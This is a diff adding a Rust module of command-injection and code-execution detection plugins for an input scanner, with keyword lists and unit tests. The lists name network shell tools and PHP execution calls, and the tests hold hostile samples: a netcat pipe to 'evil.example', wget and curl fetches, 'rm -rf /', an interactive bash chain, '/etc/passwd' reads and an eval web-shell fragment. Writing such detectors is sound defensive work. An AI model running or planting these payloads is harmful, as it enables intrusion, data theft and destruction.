@@ -1,0 +1,141 @@
+//! OS command injection (OSCI) and remote code execution (RCE) plugins.
+
+use super::{Plugin, StoredAttack};
+
+/// Shell metacharacters that chain or substitute commands.
+const SHELL_META: &[&str] = &["|", ";", "&&", "`", "$(", ">", "<", "||"];
+
+/// Commands whose appearance after a metacharacter signals injection.
+const SHELL_COMMANDS: &[&str] = &[
+    "cat", "ls", "rm", "cp", "mv", "wget", "curl", "nc", "netcat", "bash", "sh", "zsh",
+    "python", "perl", "php", "ruby", "chmod", "chown", "kill", "ping", "whoami", "id",
+    "uname", "nmap", "powershell", "cmd.exe", "cmd", "echo", "touch", "mkfifo", "sleep",
+];
+
+/// PHP/function-call shapes that execute code when evaluated server-side.
+const RCE_CALLS: &[&str] = &[
+    "eval(", "system(", "exec(", "shell_exec(", "passthru(", "popen(", "proc_open(",
+    "assert(", "create_function(", "call_user_func(", "preg_replace(", "base64_decode(",
+    "include(", "include_once(", "require(", "require_once(", "<?php", "<?=",
+];
+
+/// The OS command injection plugin.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct OsciPlugin;
+
+impl OsciPlugin {
+    /// Creates the plugin.
+    #[must_use]
+    pub fn new() -> Self {
+        OsciPlugin
+    }
+}
+
+impl Plugin for OsciPlugin {
+    fn name(&self) -> &'static str {
+        "osci"
+    }
+
+    fn quick_filter(&self, input: &str) -> bool {
+        SHELL_META.iter().any(|m| input.contains(m))
+    }
+
+    fn confirm(&self, input: &str) -> Option<StoredAttack> {
+        let lower = input.to_lowercase();
+        for meta in SHELL_META {
+            let mut search_from = 0;
+            while let Some(pos) = lower[search_from..].find(meta) {
+                let after = &lower[search_from + pos + meta.len()..];
+                let next_word: String = after
+                    .trim_start()
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '.' || *c == '/')
+                    .collect();
+                let cmd = next_word.rsplit('/').next().unwrap_or(&next_word);
+                if SHELL_COMMANDS.contains(&cmd) {
+                    return Some(StoredAttack::new(
+                        "OSCI",
+                        format!("shell metachar `{meta}` followed by command `{cmd}`"),
+                    ));
+                }
+                search_from += pos + meta.len();
+            }
+        }
+        None
+    }
+}
+
+/// The remote code execution plugin.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct RcePlugin;
+
+impl Plugin for RcePlugin {
+    fn name(&self) -> &'static str {
+        "rce"
+    }
+
+    fn quick_filter(&self, input: &str) -> bool {
+        input.contains('(') || input.contains("<?")
+    }
+
+    fn confirm(&self, input: &str) -> Option<StoredAttack> {
+        let compact: String = input.to_lowercase().replace(char::is_whitespace, "");
+        for call in RCE_CALLS {
+            if compact.contains(call) {
+                return Some(StoredAttack::new(
+                    "RCE",
+                    format!("code-execution construct `{}`", call.trim_end_matches('(')),
+                ));
+            }
+        }
+        None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn osci_flags_chained_commands() {
+        let p = OsciPlugin::new();
+        assert!(p.scan("x; cat /etc/passwd").is_some());
+        assert!(p.scan("name | nc evil.example 4444").is_some());
+        assert!(p.scan("`wget http://evil/x`").is_some());
+        assert!(p.scan("$(curl evil)").is_some());
+        assert!(p.scan("a && rm -rf /").is_some());
+        assert!(p.scan("x;/bin/bash -i").is_some());
+    }
+
+    #[test]
+    fn osci_passes_prose_with_punctuation() {
+        let p = OsciPlugin::new();
+        assert_eq!(p.scan("cats; dogs; birds"), None);
+        assert_eq!(p.scan("3 > 2 is true"), None);
+        assert_eq!(p.scan("R&D department"), None);
+        assert_eq!(p.scan("use a semicolon; carefully"), None);
+    }
+
+    #[test]
+    fn rce_flags_code_shapes() {
+        let p = RcePlugin;
+        assert!(p.scan("eval($_POST['c'])").is_some());
+        assert!(p.scan("system('id')").is_some());
+        assert!(p.scan("<?php phpinfo(); ?>").is_some());
+        assert!(p.scan("ASSERT ( $x )").is_some()); // whitespace/case evasion
+    }
+
+    #[test]
+    fn rce_passes_parenthesised_prose() {
+        let p = RcePlugin;
+        assert_eq!(p.scan("my number (mobile) is 5551234"), None);
+        assert_eq!(p.scan("section 4(a) applies"), None);
+    }
+
+    #[test]
+    fn quick_filters() {
+        assert!(!OsciPlugin::new().quick_filter("plain"));
+        assert!(!RcePlugin.quick_filter("plain"));
+        assert!(RcePlugin.quick_filter("f(x)"));
+    }
+}
